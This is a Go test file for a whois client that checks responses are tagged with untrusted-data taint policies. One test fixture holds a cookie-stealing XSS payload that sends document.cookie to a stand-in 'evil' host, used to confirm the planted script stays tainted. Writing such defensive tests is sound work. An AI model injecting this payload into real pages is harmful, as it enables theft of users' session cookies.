@@ -1,0 +1,65 @@
+package whois
+
+import (
+	"testing"
+
+	"resin/internal/core"
+	"resin/internal/sanitize"
+)
+
+func TestLookupTaintsResponse(t *testing.T) {
+	srv := NewServer()
+	srv.SetRecord("1.2.3.4", "owner: example corp")
+	c := NewClient(core.NewRuntime(), srv)
+	got, err := c.Lookup("1.2.3.4")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got.Raw() != "owner: example corp" {
+		t.Errorf("raw = %q", got.Raw())
+	}
+	if !got.HasPolicyEverywhere(sanitize.IsUntrusted) {
+		t.Error("whois response must be tainted on entry")
+	}
+	ps := got.Policies().Policies()
+	if src := ps[0].(*sanitize.UntrustedData).Source; src != "whois:1.2.3.4" {
+		t.Errorf("source = %q", src)
+	}
+}
+
+func TestLookupMissing(t *testing.T) {
+	c := NewClient(core.NewRuntime(), NewServer())
+	if _, err := c.Lookup("zz"); err == nil {
+		t.Fatal("missing record should error")
+	}
+}
+
+func TestLookupUntracked(t *testing.T) {
+	srv := NewServer()
+	srv.SetRecord("k", "v")
+	c := NewClient(core.NewUntrackedRuntime(), srv)
+	got, err := c.Lookup("k")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got.IsTainted() {
+		t.Error("untracked lookup must not taint")
+	}
+}
+
+func TestAdversaryPlantedScript(t *testing.T) {
+	// The §6.3 path: an adversary inserts JavaScript into a whois record.
+	srv := NewServer()
+	srv.SetRecord("6.6.6.6", `owner: <script>document.location='http://evil/?c='+document.cookie</script>`)
+	c := NewClient(core.NewRuntime(), srv)
+	got, err := c.Lookup("6.6.6.6")
+	if err != nil {
+		t.Fatal(err)
+	}
+	// Every byte — including the script tags — is untrusted, so the XSS
+	// assertion at the HTML boundary will catch it regardless of the path
+	// the data took to get there.
+	if !got.HasPolicyEverywhere(sanitize.IsUntrusted) {
+		t.Error("planted script must carry taint")
+	}
+}
